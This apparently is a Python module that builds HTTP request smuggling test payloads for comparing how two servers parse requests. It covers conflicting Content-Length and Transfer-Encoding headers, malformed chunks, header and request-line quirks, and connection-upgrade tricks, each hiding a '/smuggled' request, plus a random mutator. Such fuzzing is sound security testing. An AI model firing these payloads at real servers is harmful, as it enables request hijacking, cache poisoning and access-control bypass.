"""Requests that two servers may read in two ways, by family; and what chance makes of them.

Every payload hides a request for /smuggled where a reader that is wrong about the first one would begin the next.
"""

HIDDEN = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n"


def request(*lines, first=b"POST /outer HTTP/1.1", body=HIDDEN, host=b"Host: x\r\n"):
    return first + b"\r\n" + host + b"".join(line + b"\r\n" for line in lines) + b"\r\n" + body


def chunked(body):
    return b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)


def families():
    """Name and bytes of each."""
    n = len(HIDDEN)
    te = b"Transfer-Encoding: chunked"
    # Lengths that are none, two, or other ones.
    for i, value in enumerate(
        [b"0", b"-1", b"+0", b"0x0", b"0 0", b"0,0", b"0, %d" % n, b"00", b"1e1", b" 0", b"\t0", b"0\t", b"0;", b"\x0b0", b"0\x0b",
         b"18446744073709551616", b"9223372036854775808", b"4294967296", b"", b"\"0\"", b"0.0", b"\xb2"]
    ):
        yield f"length-{i}", request(b"Content-Length: " + value)
    yield "length-twice", request(b"Content-Length: 0", b"Content-Length: %d" % n)
    yield "length-twice-back", request(b"Content-Length: %d" % n, b"Content-Length: 0")
    yield "length-twice-same", request(b"Content-Length: 0", b"Content-Length: 0")
    for i, name in enumerate([b"Content-Length :", b"Content-Length\t:", b" Content-Length:", b"Content_Length:", b"Content-Length\0:", b"Content-\x00Length:",
                              b"content-length:", b"CONTENT-LENGTH:", b"Content-Length\r:", b"X: y\nContent-Length:", b"X: y\rContent-Length:", b"Content-Length\x0b:"]):
        yield f"length-name-{i}", request(name + b" %d" % n)
    yield "get-with-length", request(b"Content-Length: %d" % n, first=b"GET /outer HTTP/1.1")
    yield "head-with-length", request(b"Content-Length: %d" % n, first=b"HEAD /outer HTTP/1.1")
    yield "delete-with-length", request(b"Content-Length: %d" % n, first=b"DELETE /outer HTTP/1.1")
    yield "no-length", request()
    # Codings.
    for i, value in enumerate(
        [b"chunked", b"Chunked", b"CHUNKED", b" chunked", b"\tchunked", b"chunked ", b"chunked\t", b"chunked;", b"chunked,", b",chunked", b"chunked, chunked",
         b"chunked, identity", b"identity, chunked", b"identity", b"gzip", b"gzip, chunked", b"chunked, gzip", b"x", b"xchunked", b"chunke", b"chunkedx", b"\"chunked\"", b"'chunked'",
         b"chunked\0", b"\0chunked", b"\x0bchunked", b"chunked\x0b", b"\x0cchunked", b"chun\0ked", b"chunked\xa0", b"\xa0chunked", b"", b"chunked;q=1", b"chu\xc5\x8bked", b"\r\n chunked", b"chunked\r\n ", b"c\r\n hunked"]
    ):
        yield f"coding-{i}", request(b"Transfer-Encoding: " + value, body=chunked(b"x") + HIDDEN)
        yield f"coding-and-length-{i}", request(b"Content-Length: %d" % (n + 11), b"Transfer-Encoding: " + value, body=chunked(b"x") + HIDDEN)
    for i, name in enumerate([b"Transfer-Encoding :", b"Transfer-Encoding\t:", b" Transfer-Encoding:", b"Transfer_Encoding:", b"Transfer-Encoding\0:", b"Transfer-Encoding\r:",
                              b"X: y\nTransfer-Encoding:", b"X: y\rTransfer-Encoding:", b"transfer-encoding:", b"TRANSFER-ENCODING:", b"Transfer-Encoding\xff:", b"Transfer\xadEncoding:"]):
        yield f"coding-name-{i}", request(b"Content-Length: %d" % (n + 5), name + b" chunked", body=b"0\r\n\r\n" + HIDDEN)
    yield "coding-twice", request(te, te, body=b"0\r\n\r\n" + HIDDEN)
    yield "coding-twice-other", request(te, b"Transfer-Encoding: identity", body=b"0\r\n\r\n" + HIDDEN)
    yield "coding-twice-other-back", request(b"Transfer-Encoding: identity", te, body=b"0\r\n\r\n" + HIDDEN)
    yield "length-before-coding", request(b"Content-Length: 4", te, body=b"1e\r\nGET /smuggled HTTP/1.1\r\nX: x\r\n\r\n0\r\n\r\n")
    yield "length-after-coding", request(te, b"Content-Length: 4", body=b"1e\r\nGET /smuggled HTTP/1.1\r\nX: x\r\n\r\n0\r\n\r\n")
    yield "coding-in-old", request(te, first=b"POST /outer HTTP/1.0", body=b"0\r\n\r\n" + HIDDEN)
    yield "coding-in-old-kept", request(te, b"Connection: keep-alive", b"Content-Length: %d" % (n + 5), first=b"POST /outer HTTP/1.0", body=b"0\r\n\r\n" + HIDDEN)
    yield "te-header", request(b"TE: chunked", b"Content-Length: 0")
    # Chunks.
    for i, body in enumerate(
        [b"0\r\n\r\n", b"0\n\n", b"0\r\r", b"0\r\n\n", b"0\n\r\n", b"\r\n", b"\r\n\r\n", b"00000000000000000\r\n\r\n", b"0x0\r\n\r\n", b"-0\r\n\r\n", b"+0\r\n\r\n", b" 0\r\n\r\n", b"0 \r\n\r\n",
         b"0\t\r\n\r\n", b"0;\r\n\r\n", b"0;a\r\n\r\n", b"0;a=b\r\n\r\n", b"0;a=\"\r\n\"\r\n\r\n", b"0;\n\r\n\r\n", b"0;\r\r\n\r\n", b"0,\r\n\r\n", b"0_0\r\n\r\n", b"0\0\r\n\r\n", b"0\x0b\r\n\r\n",
         b"1\r\nx\r\n0\r\n\r\n", b"1\r\nxy\r\n0\r\n\r\n", b"1\r\nx0\r\n\r\n", b"1\r\nx\n0\r\n\r\n", b"1\nx\r\n0\r\n\r\n", b"2\r\nx\r\n0\r\n\r\n", b"1\r\nx\r\n0\r\nX: y\r\n\r\n",
         b"1\r\nx\r\n0\r\nContent-Length: 9\r\n\r\n", b"1\r\nx\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n", b"0\r\nX: y\n\r\n", b"0\r\nX: y\r\r\n\r\n", b"0\r\n X: y\r\n\r\n", b"0\r\nHost: y\r\n\r\n",
         b"0\r\n" + HIDDEN, b"0\r\nX: " + HIDDEN, b"ffffffffffffffff\r\nx\r\n0\r\n\r\n", b"10000000000000000\r\nx\r\n0\r\n\r\n", b"8000000000000000\r\nx\r\n0\r\n\r\n", b"100000001\r\nx\r\n0\r\n\r\n", b"g\r\nx\r\n0\r\n\r\n",
         b"0\r\n\r\nX", b"1;" + b"a" * 300 + b"\r\nx\r\n0\r\n\r\n", b"1;a=b;\nx\r\nx\r\n0\r\n\r\n", b"\xef\xbc\x90\r\n\r\n"]
    ):
        yield f"chunk-{i}", request(te, body=body + HIDDEN)
    # Lines and names.
    for i, lines in enumerate(
        [b"X: y\n", b"X: y\r", b"X: y\0", b"X: y\x0b", b"X", b": y", b"X y", b"X : y", b" X: y", b"\tX: y", b"X: y\r\n z", b"X: y\r\n\tz", b"X:\r\n y", b"X\r\n: y", b"X(: y", b"X\x80: y", b"\x80: y", b"X: \x80",
         b"\0", b"X:" + b" " * 2000 + b"y", b"X: y\r\n\n", b"X: y\n\n", b"X: y\n\r\nGET /smuggled HTTP/1.1\r\nA: b"]
    ):
        yield f"line-{i}", request(lines, b"Content-Length: 0")
    for i, first in enumerate(
        [b"POST /outer HTTP/1.1\n", b"POST /outer HTTP/1.1\r", b"POST  /outer HTTP/1.1", b"POST /outer  HTTP/1.1", b"POST\t/outer\tHTTP/1.1", b"POST /outer HTTP/1.1 ", b" POST /outer HTTP/1.1", b"POST /outer", b"POST",
         b"POST /outer HTTP/1.2", b"POST /outer HTTP/2.0", b"POST /outer HTTP/0.9", b"POST /outer HTTP/1.10", b"POST /outer http/1.1", b"POST /outer HTTP/1,1", b"POST /out er HTTP/1.1", b"POST /outer\0 HTTP/1.1",
         b"POST /outer\x80 HTTP/1.1", b"POST /outer#x HTTP/1.1", b"P(ST /outer HTTP/1.1", b"post /outer HTTP/1.1", b"POST outer HTTP/1.1", b"POST * HTTP/1.1", b"OPTIONS * HTTP/1.1", b"POST http://x/outer HTTP/1.1", b"POST http://y/outer HTTP/1.1",
         b"POST http://u@x/outer HTTP/1.1", b"POST //outer HTTP/1.1", b"POST /a/../outer HTTP/1.1", b"POST /%2e%2e/outer HTTP/1.1", b"CONNECT x:80 HTTP/1.1", b"PRI * HTTP/2.0", b"\r\nPOST /outer HTTP/1.1", b"\r\n\r\nPOST /outer HTTP/1.1", b"\nPOST /outer HTTP/1.1",
         b"POST /outer HTTP/1.1\r\nX: y\r\nPOST /smuggled HTTP/1.1"]
    ):
        yield f"first-{i}", request(b"Content-Length: 0", first=first)
    # Whose it is, and what is between two.
    for i, host in enumerate([b"", b"Host: x\r\nHost: y\r\n", b"Host: x\r\nHost: x\r\n", b"Host:\r\n", b"Host: x y\r\n", b"Host: x, y\r\n", b"Host: x/\r\n", b"Host: u@x\r\n", b"Host: x\0y\r\n", b"Host: x:99999999\r\n", b"Host: x\r\n y\r\n"]):
        yield f"host-{i}", request(b"Content-Length: 0", host=host)
    for i, named in enumerate([b"Content-Length", b"Transfer-Encoding", b"Host", b"X-Request-Id", b"close, Content-Length", b"keep-alive, Transfer-Encoding", b"Via", b"Upgrade", b"Connection", b"TE"]):
        yield f"nominated-{i}", request(b"Connection: " + named, b"Content-Length: %d" % n)
        yield f"nominated-chunked-{i}", request(b"Connection: " + named, te, body=chunked(HIDDEN))
    # Ways to become something else.
    for i, lines in enumerate(
        [(b"Upgrade: websocket", b"Connection: Upgrade"), (b"Upgrade: websocket", b"Connection: Upgrade", b"Content-Length: %d" % n), (b"Upgrade: websocket",), (b"Upgrade: h2c", b"Connection: Upgrade, HTTP2-Settings", b"HTTP2-Settings: AAMAAABk"),
         (b"Upgrade: TLS/1.0", b"Connection: Upgrade"), (b"Expect: 100-continue", b"Content-Length: %d" % n), (b"Expect: x", b"Content-Length: %d" % n), (b"Expect: 100-continue", b"Content-Length: 0"), (b"Expect: 100-continue", te),
         (b"X-Request-Id: forged", b"Content-Length: 0"), (b"Proxy-Connection: keep-alive", b"Content-Length: 0"), (b"X-HTTP-Method-Override: GET", b"Content-Length: %d" % n), (b"Trailer: Content-Length", te)]
    ):
        body = chunked(b"x") + HIDDEN if te in lines else HIDDEN
        yield f"become-{i}", request(*lines, first=b"GET /outer HTTP/1.1", body=body)
        yield f"become-post-{i}", request(*lines, body=body)


ODD = [b"\r", b"\n", b"\r\n", b"\0", b" ", b"\t", b"\x0b", b"\x0c", b":", b",", b";", b"0", b"1", b"a", b"\x80", b"\xff", b"chunked", b"Content-Length: 3\r\n", b"Transfer-Encoding: chunked\r\n", b"Connection: close\r\n", b"0\r\n\r\n"]


def mutated(rng, payload):
    """The same with one to four things done to it."""
    payload = bytearray(payload)
    for _ in range(rng.randint(1, 4)):
        at = rng.randrange(len(payload) + 1)
        match rng.randrange(5):
            case 0:
                payload[at:at] = rng.choice(ODD)
            case 1:
                del payload[at : at + rng.randint(1, 3)]
            case 2:
                payload[at : at + 1] = rng.choice(ODD)
            case 3:
                end = min(len(payload), at + rng.randint(1, 30))
                payload[at:at] = payload[at:end]
            case 4:
                lines = bytes(payload).split(b"\r\n")
                one, other = rng.randrange(len(lines)), rng.randrange(len(lines))
                lines[one], lines[other] = lines[other], lines[one]
                payload = bytearray(b"\r\n".join(lines))
    return bytes(payload)
